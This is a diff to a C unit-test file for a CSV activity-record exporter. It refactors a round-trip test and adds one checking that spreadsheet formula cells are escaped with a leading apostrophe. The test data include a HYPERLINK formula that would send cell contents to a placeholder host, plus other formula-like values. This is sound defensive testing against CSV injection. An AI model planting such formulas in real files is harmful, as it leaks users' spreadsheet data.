@@ -349,14 +349,48 @@ test_malformed_and_stop(void **state)
 	collected_free(&c);
 }
 
+/* The header and a's row, as an export writes them; malloc'd. */
+static char *
+write_one(const Hoptac__V1__Activity *a)
+{
+	char *buf = NULL;
+	size_t len = 0;
+	FILE *f = open_memstream(&buf, &len);
+
+	assert_non_null(f);
+	assert_int_equal(activity_csv_write_header(f), 0);
+	assert_int_equal(activity_csv_write(f, a), 0);
+	fclose(f);
+	return buf;
+}
+
+/* Reads csv, which must hold exactly one row, and checks it is a. */
+static void
+assert_read_back(const char *csv, const Hoptac__V1__Activity *a)
+{
+	struct collected c = {0};
+	uint8_t *p1 = malloc(protobuf_c_message_get_packed_size(&a->base));
+	uint8_t *p2;
+	size_t n1, n2;
+
+	assert_int_equal(read_string(csv, &c), 0);
+	assert_int_equal(c.nerrors, 0);
+	assert_int_equal(c.nrows, 1);
+	p2 = malloc(protobuf_c_message_get_packed_size(&c.rows[0]->base));
+	n1 = protobuf_c_message_pack(&a->base, p1);
+	n2 = protobuf_c_message_pack(&c.rows[0]->base, p2);
+	assert_int_equal(n1, n2);
+	assert_memory_equal(p1, p2, n1);
+	free(p1);
+	free(p2);
+	collected_free(&c);
+}
+
 static void
 test_round_trip(void **state)
 {
 	Hoptac__V1__Activity a = HOPTAC__V1__ACTIVITY__INIT;
-	struct collected c = {0};
-	char *buf = NULL;
-	size_t len = 0;
-	FILE *f;
+	char *buf;
 
 	(void)state;
 	assert_int_equal(pbstr_set(&a.id, "rt-1"), 0);
@@ -377,31 +411,11 @@ test_round_trip(void **state)
 	                     "558/SNgV-BGHTQT"),
 	    0);
 
-	f = open_memstream(&buf, &len);
-	assert_non_null(f);
-	assert_int_equal(activity_csv_write_header(f), 0);
-	assert_int_equal(activity_csv_write(f, &a), 0);
-	fclose(f);
+	buf = write_one(&a);
 	assert_non_null(
 	    strstr(buf, "\"Tuần tra \"\"song phương\"\", mốc 743\""));
 
-	assert_int_equal(read_string(buf, &c), 0);
-	assert_int_equal(c.nerrors, 0);
-	assert_int_equal(c.nrows, 1);
-	{
-		uint8_t *p1 =
-		    malloc(protobuf_c_message_get_packed_size(&a.base));
-		uint8_t *p2 = malloc(
-		    protobuf_c_message_get_packed_size(&c.rows[0]->base));
-		size_t n1 = protobuf_c_message_pack(&a.base, p1);
-		size_t n2 = protobuf_c_message_pack(&c.rows[0]->base, p2);
-
-		assert_int_equal(n1, n2);
-		assert_memory_equal(p1, p2, n1);
-		free(p1);
-		free(p2);
-	}
-	collected_free(&c);
+	assert_read_back(buf, &a);
 	free(buf);
 	pbstr_set(&a.id, NULL);
 	pbstr_set(&a.unit_code, NULL);
@@ -411,6 +425,52 @@ test_round_trip(void **state)
 	pbstr_clear_all(&a.n_partner_codes, &a.partner_codes);
 	pbstr_clear_all(&a.n_fields, &a.fields);
 	pbstr_clear_all(&a.n_document_refs, &a.document_refs);
+}
+
+/* Cells a spreadsheet would run as formulas are written behind a "'",
+ * and reading the file back takes it away again: the same record. */
+static void
+test_formula_cells_round_trip(void **state)
+{
+	/* On the heap, so that one free_unpacked frees every field. */
+	Hoptac__V1__Activity *a = malloc(sizeof(*a));
+	char *buf;
+
+	(void)state;
+	assert_non_null(a);
+	hoptac__v1__activity__init(a);
+	assert_int_equal(pbstr_set(&a->id, "rt-2"), 0);
+	assert_int_equal(pbstr_set(&a->unit_code, "KT-DAKGLEI"), 0);
+	a->kind = HOPTAC__V1__ACTIVITY_KIND__ACTIVITY_KIND_CONFERENCE;
+	assert_int_equal(pbstr_append(&a->n_fields, &a->fields, "=1+1"), 0);
+	assert_int_equal(pbstr_set(&a->start_date, "2024-03"), 0);
+	assert_int_equal(pbstr_set(&a->title,
+	                     "=HYPERLINK(\"http://x.example/?\"&A1,\"xem\")"),
+	    0);
+	assert_int_equal(pbstr_set(&a->place, "+84 Đắk Glei"), 0);
+	assert_int_equal(pbstr_set(&a->leader, "@SUM(A1:A9)"), 0);
+	assert_int_equal(pbstr_set(&a->summary, "- họp giao ban"), 0);
+	assert_int_equal(pbstr_set(&a->result, "'=đã là chữ"), 0);
+
+	buf = write_one(a);
+	assert_non_null(strstr(buf,
+	    ",\"'=HYPERLINK(\"\"http://x.example/?\"\"&A1,\"\"xem\"\")\","));
+	assert_non_null(strstr(buf, ",'+84 Đắk Glei,"));
+	assert_non_null(strstr(buf, ",'@SUM(A1:A9),"));
+	assert_non_null(strstr(buf, ",'- họp giao ban,"));
+	assert_non_null(strstr(buf, ",''=đã là chữ,"));
+	assert_non_null(strstr(buf, ",'=1+1,"));
+	assert_null(strstr(buf, ",="));
+	assert_read_back(buf, a);
+
+	/* Text beginning with "'" is guarded too: it comes back whole. */
+	assert_int_equal(pbstr_set(&a->result, "'chữ"), 0);
+	free(buf);
+	buf = write_one(a);
+	assert_non_null(strstr(buf, ",''chữ"));
+	assert_read_back(buf, a);
+	free(buf);
+	hoptac__v1__activity__free_unpacked(a, NULL);
 }
 
 /* The whole seed file written out and read back gives the same records. */
@@ -474,6 +534,7 @@ main(void)
 	    cmocka_unit_test(test_bad_people),
 	    cmocka_unit_test(test_malformed_and_stop),
 	    cmocka_unit_test(test_round_trip),
+	    cmocka_unit_test(test_formula_cells_round_trip),
 	    cmocka_unit_test(test_round_trip_data_file),
 	};
 
